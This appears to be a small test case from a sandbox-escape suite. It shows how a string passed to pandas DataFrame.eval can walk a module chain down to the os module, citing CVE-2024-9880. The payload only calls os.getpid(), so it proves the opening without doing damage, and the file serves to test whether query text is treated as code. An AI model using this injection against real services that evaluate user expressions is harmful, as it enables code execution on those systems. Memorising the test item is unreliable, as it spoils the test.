# aim: reach Python from the text of an expression
# mechanism: DataFrame.eval with @, a chain of modules and a call
# source: CVE-2024-9880 (pandas, disputed by its makers)
# language: builtins
# reason: texts of queries are checked as code
# jail: process
# plain: loot
# imports: pandas
import pandas
try:
    pandas.DataFrame({"a": [1]}).eval("@there.io.common.os.getpid()", local_dict={"there": pandas}, engine="python")
    loot("mutated: an expression called os")
except Exception as error:
    loot(str(error))
